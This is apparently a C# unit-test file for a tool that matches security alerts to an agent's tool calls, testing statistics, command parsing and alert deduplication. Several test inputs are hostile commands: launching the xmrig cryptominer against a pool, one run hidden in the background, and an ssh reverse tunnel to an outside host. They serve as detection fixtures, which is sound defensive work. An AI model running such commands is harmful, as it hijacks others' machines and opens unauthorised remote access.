using Aurelian.Investigation;
using Aurelian.Investigation.Answer;
using Aurelian.Investigation.Cases;
using Aurelian.Investigation.Causes;
using Aurelian.Investigation.Simulate;

namespace Aurelian.UnitTests.Investigation.Core;

public class CausesTests
{
    [Fact]
    public void Q_values_are_those_of_Benjamini_and_Hochberg()
    {
        // Worked by hand: p·m/rank, then the least from the right.
        double[] q = BenjaminiHochberg.QValues([0.01, 0.04, 0.03, 0.5]);
        Assert.Equal([0.04, 0.16 / 3, 0.16 / 3, 0.5], q,
            new Close());
    }

    [Theory]
    [InlineData("chmod +x xmrig && ./xmrig --url pool.a.example:443 -k", "bash:xmrig")]
    [InlineData("nohup ./xmrig -o stratum+tcp://pool >/dev/null 2>&1 &", "bash:xmrig")]
    [InlineData("python3 solve.py --seed 4", "bash:python3 solve.py")]
    [InlineData("ssh -N -R 443:localhost:22 ops@a.example", "bash:ssh")]
    [InlineData("cat src/a.py | head -4", "bash:cat")]
    [InlineData("", "bash:")]
    public void A_command_comes_down_to_its_program(string command, string program) =>
        Assert.Equal(program, CommandWords.ProgramOf("bash", command));

    [Fact]
    public void Many_causes_of_one_kind_do_not_drown_another()
    {
        double[] p = [0.001, .. Enumerable.Repeat(0.9, 99)];
        CauseKind[] kinds = [CauseKind.Task, .. Enumerable.Repeat(CauseKind.Episode, 99)];
        Assert.Equal(0.1, BenjaminiHochberg.QValues(p)[0], 1e-9);
        Assert.Equal(0.002, BenjaminiHochberg.QValues(p, kinds, _ => 1)[0], 1e-9);
    }

    [Fact]
    public void Coarse_stamps_do_not_speak_for_short_calls()
    {
        // Ten alerts a minute, whatever runs: six calls of nine seconds stand in the same minute as some at any offset.
        InvestigationCase made = CaseSimulator.Make(SimulationSetting.All["minute"], 3).Case;
        InvestigationCase even = made with
        {
            Alerts = [.. Enumerable.Range(0, 600).Select(i => made.Alerts[0] with
            {
                Line = i + 1, Time = made.Calls.Min(c => c.Start) + (60 * (i / 10)), Type = "Scan", DuplicateOf = null,
            })],
        };
        CaseFrame frame = CaseFrame.Of(even);
        int[] brief = [.. Enumerable.Range(0, frame.Calls)
            .Where(c => frame.End[c] - frame.Start[c] is > 5 and < 12 && frame.Start[c] < 3000).Take(6)];
        OffsetScan scan = new(frame, new ScanAlerts(frame.AlertTime, frame.AlertType, frame.Grain), 600, 6);
        Assert.Equal(6, brief.Length);
        Assert.InRange(scan.Peak(brief, frame.Start), -5, 6);
    }

    [Fact]
    public void The_first_alert_after_a_stretch_without_calls_counts()
    {
        CaseFrame frame = CaseFrame.Of(CaseSimulator.Make(SimulationSetting.All["few"], 3).Case);
        int[] calls = [.. Enumerable.Range(0, frame.Calls).Where(c => frame.End[c] - frame.Start[c] > 60)
            .OrderBy(c => frame.Start[c]).Chunk(40).Take(5).Select(apart => apart[0])];
        double Peak(int call, double[] times) => new OffsetScan(
            frame, new ScanAlerts(times, new int[times.Length], frame.Grain), 5, 1).Peak([call], frame.Start);
        double[] elsewhere = [.. Enumerable.Range(-100, 50).Select(i => 1000.0 * i)];

        Assert.Equal(5, calls.Length);
        Assert.All(calls, c => Assert.Equal(0, Peak(c, elsewhere)));
        Assert.All(calls, c => Assert.True(Peak(c, [.. elsewhere, frame.Start[c] + 1]) > 1));
    }

    [Fact]
    public void Words_are_distinct_and_leave_numbers_out() =>
        Assert.Equal(["xmrig", "--url", "pool", "example", "-k"],
            CommandWords.Of("./xmrig --url pool.example:14444 -k xmrig 4b8b64e8db055840"));

    [Fact]
    public void Repeated_lines_stand_for_one_event()
    {
        CaseAlert[] alerts = [Alert(100, 4000), Alert(101, 4000), Alert(101, 4001), Alert(200, 4000)];
        Assert.Equal([null, 0, null, null], RepeatedAlerts.Mark(alerts).Select(a => a.DuplicateOf));
    }

    [Fact]
    public void A_rotation_keeps_siblings_together()
    {
        CaseFrame frame = CaseFrame.Of(new InvestigationCase
        {
            Alerts = [],
            Calls =
            [
                InvestigatorTests.Call("a", "e1", 100, 110) with { Task = "t" },
                InvestigatorTests.Call("b", "e2", 130, 150) with { Task = "t" },
                InvestigatorTests.Call("c", "e3", 5000, 5100) with { Task = "t", Step = 1 },
            ],
        });
        double[] starts = Rotation.Starts(frame, frame.Visit, frame.Visits, 7);

        double apart = (starts[1] - starts[0] + frame.TraceSeconds) % frame.TraceSeconds;
        Assert.Equal(30, apart, 6);
        Assert.NotEqual(frame.Start[2] - frame.Start[0], starts[2] - starts[0], 3);
    }

    [Fact]
    public void A_null_tail_ranks_what_it_has_and_falls_off_beyond_it()
    {
        NullTail tail = new([.. Enumerable.Range(0, 1000).Select(i => i / 100f)], 1000);
        Assert.InRange(tail.PValue(5), 0.49, 0.51);
        Assert.InRange(tail.PValue(9.995), 1e-4, 0.02);
        Assert.True(tail.PValue(30) < 1e-6);
    }

    private static CaseAlert Alert(double time, int port) => new()
    {
        Line = 1, Time = time, SourceAddress = "198.51.100.20", SourcePort = port, DestinationAddress = "203.0.113.9",
        DestinationPort = 443,
    };

    private sealed class Close : IEqualityComparer<double>
    {
        public bool Equals(double x, double y) => Math.Abs(x - y) < 1e-9;

        public int GetHashCode(double obj) => 0;
    }
}
